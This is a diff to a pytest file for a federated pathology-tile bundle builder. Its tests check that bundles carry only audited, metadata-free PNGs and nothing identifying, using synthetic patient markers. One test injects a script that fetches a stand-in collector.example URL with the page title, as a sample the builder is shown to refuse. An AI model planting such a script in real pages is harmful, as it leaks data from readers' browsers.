@@ -1,4 +1,4 @@
-"""Building a bundle: clean PNGs under random names, an allow-listed manifest and audit, nothing identifying."""
+"""Building a run's bundle: canonical PNGs under random names, the run's own audit, nothing identifying."""
 
 from __future__ import annotations
 
@@ -12,13 +12,14 @@ import pytest
 
 from pixcell_fed.bundle import build_bundle
 from pixcell_fed.bundle.build import scan_bytes_for
-from pixcell_fed.bundle.layout import read_bundle_json
+from pixcell_fed.bundle.layout import parse_time, read_bundle_json
 from pixcell_fed.bundle.manifest import manifest_bytes, read_manifest, validate_manifest
-from pixcell_fed.bundle.png import check_clean_png, clean_png_bytes, list_chunks
+from pixcell_fed.bundle.png import clean_png_bytes, list_chunks
 from pixcell_fed.bundle.shareable import validate_shareable_audit
 from pixcell_fed.errors import BundleError, ExitCode, PrivacyGateRefused
 from pixcell_fed.keys import generate_private_key
-from pixcell_fed.testing.bundles import ENCODER, GENERATOR, audit_for, real_tile_arrays, write_tiles
+from pixcell_fed.testing.bundles import (ENCODER, GENERATOR, TILE_SIZE, audit_for, inert_summary_html, real_tile_arrays,
+                                         write_run, write_tiles)
 
 MARKERS = {
     "Patient": "PAT-4471-MARKER Doe^Jane",
@@ -33,64 +34,95 @@ def arrays():
     return real_tile_arrays(6)
 
 
-def _build(tmp_path, arrays, **overrides):
-    paths = write_tiles(tmp_path / "synthetic", arrays)
-    kwargs = dict(site_name="site-a", run_id="run-001", tiles=paths, labels=None, generator=GENERATOR, encoder=ENCODER,
-                  audit_summary=audit_for(arrays), site_key=generate_private_key())
+def _build(run, **overrides):
+    kwargs = dict(site_name="site-a", tiles=run.tiles, tile_size=TILE_SIZE, labels=None, generator=GENERATOR,
+                  encoder=ENCODER, site_key=generate_private_key())
     kwargs.update(overrides)
-    return build_bundle(tmp_path / "bundle", **kwargs)
+    return build_bundle(run.run_dir, **kwargs)
 
 
 def test_bundle_layout_and_state(tmp_path, arrays):
-    info = _build(tmp_path, arrays, labels=["tumor", "normal", "tumor", "tumor", "normal", "tumor"])
+    run = write_run(tmp_path / "work", "run-001", arrays)
+    info = _build(run, labels=["tumor", "normal", "tumor", "tumor", "normal", "tumor"])
     root = info.path
+    assert root == run.run_dir / "bundle"
     files = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
     assert files[:4] == ["audit.json", "bundle.json", "manifest.parquet", "signatures/site.sig"]
     assert len([f for f in files if f.startswith("tiles/")]) == 6
     assert read_bundle_json(root)["state"] == "awaiting_approval" == info.state
     meta = read_bundle_json(root)
     assert meta["counts"] == {"tiles": 6, "labels": {"normal": 2, "tumor": 4}}
+    assert meta["format_version"] == 2 and meta["tile_size"] == TILE_SIZE
+    # the agreed interface: "created" is the build's UTC time to the second, covered by the site signature
+    created = parse_time(meta["created"])
+    assert created is not None and created.utcoffset().total_seconds() == 0
+    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+00:00", meta["created"])
     frame = read_manifest(root / "manifest.parquet")
     assert list(frame.columns) == ["file_name", "sha256", "size", "label", "generator", "encoder", "run_id"]
     assert all(re.fullmatch(r"[0-9a-f]{32}\.png", n) for n in frame["file_name"])
     assert list(frame["file_name"]) == sorted(frame["file_name"])  # row order reveals nothing about the sources
-    assert not list(tmp_path.glob(".bundle.tmp-*"))  # built in a temporary folder, renamed into place
-    # pixels survive exactly
+    assert not list(run.run_dir.glob(".bundle.tmp-*"))  # built in a temporary folder, renamed into place
+    # the shipped bytes are the audited bytes, and the pixels survive exactly
+    assert {(root / "tiles" / n).read_bytes() for n in frame["file_name"]} == {t.read_bytes() for t in run.tiles}
     from PIL import Image
 
     shipped = {np.asarray(Image.open(root / "tiles" / n)).tobytes() for n in frame["file_name"]}
     assert shipped == {a.tobytes() for a in arrays}
+    # the bundle carries the run's own audit
+    assert json.loads((root / "audit.json").read_text()) == run.audit
 
 
 def test_unlabelled_bundle_has_no_label_column(tmp_path, arrays):
-    info = _build(tmp_path, arrays)
+    info = _build(write_run(tmp_path / "work", "run-001", arrays))
     assert "label" not in read_manifest(info.path / "manifest.parquet").columns
 
 
-def test_fail_verdict_builds_nothing(tmp_path, arrays):
+@pytest.mark.parametrize("verdict, run_json", [
+    ("FAIL", None),                                            # the audit refused the run
+    ("PASS", {"state": "refused by audit", "verdict": "FAIL"}),  # the run's record says FAIL, whatever the summary says
+])
+def test_a_run_refused_by_its_audit_builds_nothing(tmp_path, arrays, verdict, run_json):
+    run = write_run(tmp_path / "work", "run-001", arrays, verdict=verdict, run_json=run_json)
     with pytest.raises(PrivacyGateRefused, match="FAIL") as info:
-        _build(tmp_path, arrays, audit_summary=audit_for(arrays, "FAIL"))
+        _build(run)
     assert info.value.exit_code == ExitCode.PRIVACY_REFUSED
-    assert not (tmp_path / "bundle").exists() and not list(tmp_path.glob(".bundle*"))
+    assert not (run.run_dir / "bundle").exists() and not list(run.run_dir.glob(".bundle*"))
 
 
-def test_unaudited_tile_refused(tmp_path, arrays):
-    with pytest.raises(BundleError, match="not among the audited tiles"):
-        _build(tmp_path, arrays, audit_summary=audit_for(arrays[:-1]))
-    assert not (tmp_path / "bundle").exists()
+def test_the_audit_comes_only_from_the_runs_folder(tmp_path, arrays):
+    run = write_run(tmp_path / "work", "run-001", arrays)
+    (run.run_dir / "audit" / "audit_summary.json").unlink()
+    with pytest.raises(BundleError, match="has no audit summary"):
+        _build(run)
+    with pytest.raises(TypeError):  # there is no way to hand the builder an audit of one's own
+        _build(run, audit_summary=audit_for(arrays))
+
+
+def test_tiles_must_be_exactly_the_kept_set(tmp_path, arrays):
+    run = write_run(tmp_path / "work", "run-001", arrays, audit=audit_for(arrays[:-1]))
+    with pytest.raises(BundleError, match="1 tile\\(s\\) the audit did not keep"):
+        _build(run)
+    run = write_run(tmp_path / "work2", "run-001", arrays)
+    with pytest.raises(BundleError, match="1 kept tile\\(s\\) missing"):
+        _build(run, tiles=run.tiles[:-1])
+    assert not (run.run_dir / "bundle").exists()
 
 
 def test_existing_bundle_not_overwritten(tmp_path, arrays):
-    _build(tmp_path, arrays)
+    run = write_run(tmp_path / "work", "run-001", arrays)
+    _build(run)
     with pytest.raises(BundleError, match="already exists"):
-        _build(tmp_path, arrays)
+        _build(run)
 
 
-def test_png_metadata_stripped(tmp_path, arrays):
-    paths = write_tiles(tmp_path / "dirty", arrays[:2], text_chunks=MARKERS)
-    assert {"tEXt", "zTXt", "iTXt"} <= set(list_chunks(paths[0].read_bytes()))
-    with pytest.raises(BundleError, match="metadata chunks"):
-        check_clean_png(paths[0].read_bytes())
+def test_tiles_with_metadata_are_refused_naming_the_file(tmp_path, arrays):
+    """A careless writer's PNG (text chunks with identifiers) is refused, not silently shipped or rewritten."""
+    dirty = write_tiles(tmp_path / "dirty", arrays[:2], text_chunks=MARKERS)
+    assert {"tEXt", "zTXt", "iTXt"} <= set(list_chunks(dirty[0].read_bytes()))
+    run = write_run(tmp_path / "work", "run-001", arrays[:2])
+    with pytest.raises(BundleError, match=f"{dirty[0].name}: PNG carries chunks .*tEXt"):
+        _build(run, tiles=dirty)
+    assert not (run.run_dir / "bundle").exists()
     clean = clean_png_bytes(np.asarray(arrays[0]))
     assert list_chunks(clean) == ["IHDR", "IDAT", "IEND"]
     with pytest.raises(BundleError, match="after the PNG's IEND"):
@@ -98,14 +130,17 @@ def test_png_metadata_stripped(tmp_path, arrays):
 
 
 def test_nothing_identifying_in_any_byte(tmp_path, arrays):
-    """Markers in PNG text chunks and in source file names and folders: none reaches the bundle."""
-    src = tmp_path / "CASE-2024-0815-MARKER_slides" / "synthetic"
-    paths = write_tiles(src, arrays, stem="CASE-2024-0815-MARKER-r00012-c00034", text_chunks=MARKERS)
-    forbidden = ["PAT-4471", "Doe^Jane", "BARCODE-ZX81", "CASE-2024-0815", "99887766", "MARKER", "r00012-c00034",
-                 str(src), "synthetic_tile"]
-    info = build_bundle(tmp_path / "bundle", site_name="site-a", run_id="run-001", tiles=paths, labels=None,
-                        generator=GENERATOR, encoder=ENCODER, audit_summary=audit_for(arrays),
-                        site_key=generate_private_key(), forbidden_strings=["PAT-4471", "BARCODE-ZX81"])
+    """Markers in source file names and folders and in the forbidden strings: none reaches the bundle."""
+    work = tmp_path / "CASE-2024-0815-MARKER_slides" / "work"
+    run = write_run(work, "run-001", arrays)
+    src = run.run_dir / "synthetic"
+    paths = []
+    for i, tile in enumerate(run.tiles):  # source names carrying a slide name and a tile id
+        paths.append(tile.rename(src / f"CASE-2024-0815-MARKER-r00012-c{i:05d}.png"))
+    forbidden = ["PAT-4471", "BARCODE-ZX81", "CASE-2024-0815", "MARKER", "r00012-c0000", str(src)]
+    info = build_bundle(run.run_dir, site_name="site-a", tiles=paths, tile_size=TILE_SIZE, labels=None,
+                        generator=GENERATOR, encoder=ENCODER, site_key=generate_private_key(),
+                        forbidden_strings=["PAT-4471", "BARCODE-ZX81"])
     assert scan_bytes_for(info.path, forbidden) == []
     for name in (p.relative_to(info.path).as_posix() for p in info.path.rglob("*")):
         assert not any(f.lower() in name.lower() for f in forbidden)
@@ -119,9 +154,10 @@ def test_nothing_identifying_in_any_byte(tmp_path, arrays):
 
 
 def test_self_check_refuses_forbidden_string(tmp_path, arrays):
+    run = write_run(tmp_path / "work", "run-PAT4471", arrays)
     with pytest.raises(BundleError, match="identifying"):
-        _build(tmp_path, arrays, run_id="run-PAT4471", forbidden_strings=["PAT4471"])
-    assert not (tmp_path / "bundle").exists()
+        _build(run, forbidden_strings=["PAT4471"])
+    assert not (run.run_dir / "bundle").exists()
 
 
 @pytest.mark.parametrize("mutate, match", [
@@ -145,7 +181,8 @@ def test_shareable_audit_allow_list(arrays, mutate, match):
 
 def test_identity_with_a_path_refused(tmp_path, arrays):
     with pytest.raises(BundleError, match="path"):
-        _build(tmp_path, arrays, generator={**GENERATOR, "weights": "/home/admin/pixcell/model.safetensors"})
+        _build(write_run(tmp_path / "work", "run-001", arrays),
+               generator={**GENERATOR, "weights": "/home/admin/pixcell/model.safetensors"})
 
 
 def _frame(arrays):
@@ -195,17 +232,15 @@ def test_manifest_file_with_extra_column_or_metadata_refused(tmp_path, arrays):
         read_manifest(tmp_path / "meta.parquet")
 
 
-def test_summary_html_must_be_self_contained(tmp_path, arrays):
-    good = tmp_path / "good.html"
-    good.write_text('<html><body><h1>PASS</h1><img src="data:image/png;base64,AAAA"><a href="#t1">t</a></body></html>')
-    info = _build(tmp_path, arrays, summary_html=good)
-    assert (info.path / "audit_summary.html").read_bytes() == good.read_bytes()
-    bad = tmp_path / "bad.html"
-    bad.write_text('<html><img src="/srv/site/audit/closest_pairs/real_0001.png"></html>')
-    with pytest.raises(BundleError, match="embed everything"):
-        build_bundle(tmp_path / "bundle2", site_name="site-a", run_id="run-001", tiles=write_tiles(tmp_path / "s2", arrays),
-                     generator=GENERATOR, encoder=ENCODER, audit_summary=audit_for(arrays),
-                     site_key=generate_private_key(), summary_html=bad)
+def test_summary_page_comes_from_the_runs_audit_and_must_be_inert(tmp_path, arrays):
+    page = inert_summary_html()
+    info = _build(write_run(tmp_path / "work", "run-001", arrays, summary_html=page))
+    assert (info.path / "audit_summary.html").read_text() == page
+    scripted = page.replace("<h1>", "<script>fetch('https://collector.example/?' + document.title)</script><h1>")
+    run = write_run(tmp_path / "work2", "run-001", arrays, summary_html=scripted)
+    with pytest.raises(BundleError, match="audit_summary.html: contains a <script> element"):
+        _build(run)
+    assert not (run.run_dir / "bundle").exists()
 
 
 def test_site_key_file_mode(tmp_path):
@@ -216,21 +251,20 @@ def test_site_key_file_mode(tmp_path):
 
 
 def test_the_audits_own_summary_is_bundled_and_verified(tmp_path):
-    """Compatibility with the audit stage: its audit_summary.json passes the allow-list and binds the tiles."""
+    """Compatibility with the audit stage: run_audit's own folder is a run's audit the builder accepts."""
     from pixcell_fed.audit.run import run_audit
-    from pixcell_fed.bundle import approve_bundle, verify_bundle
-    from pixcell_fed.testing.bundles import consortium
+    from pixcell_fed.bundle import verify_bundle
+    from pixcell_fed.testing.bundles import RunFixture, build_run_bundle, consortium
 
     arrays = real_tile_arrays(64, size=32)
-    synthetic = write_tiles(tmp_path / "s", arrays[:10], stem="syn")
+    run_dir = tmp_path / "work" / "runs" / "run-001"
+    synthetic = write_tiles(run_dir / "synthetic", arrays[:10], stem="syn")
     result = run_audit(synthetic, write_tiles(tmp_path / "t", arrays[10:37], stem="ref"),
                        write_tiles(tmp_path / "h", arrays[37:], stem="hold"), source_of=None, audit_cfg=None,
-                       out_dir=tmp_path / "audit", identities={"generator": GENERATOR, "encoder": ENCODER})
-    summary = json.loads((tmp_path / "audit" / "audit_summary.json").read_text())
+                       out_dir=run_dir / "audit", identities={"generator": GENERATOR, "encoder": ENCODER})
+    summary = json.loads((run_dir / "audit" / "audit_summary.json").read_text())
     keys = consortium(("site-a",))
-    info = build_bundle(tmp_path / "bundle", site_name="site-a", run_id="run-001", tiles=result.kept,
-                        generator=GENERATOR, encoder=ENCODER, audit_summary=summary, site_key=keys.site_keys["site-a"])
-    approve_bundle(info.path, keys.officer_keys["site-a"])
-    verified = verify_bundle(info.path, keys.trust)
+    run = RunFixture("run-001", run_dir, [p for p in result.kept], summary)
+    verified = verify_bundle(build_run_bundle(run, keys, "site-a"), keys.trust)
     assert verified.verdict == result.verdict and len(verified.tiles) == len(result.kept)
-    assert set(verified.tiles["sha256"]) <= set(summary["kept_sha256"])
+    assert sorted(verified.tiles["sha256"]) == sorted(summary["kept_sha256"])
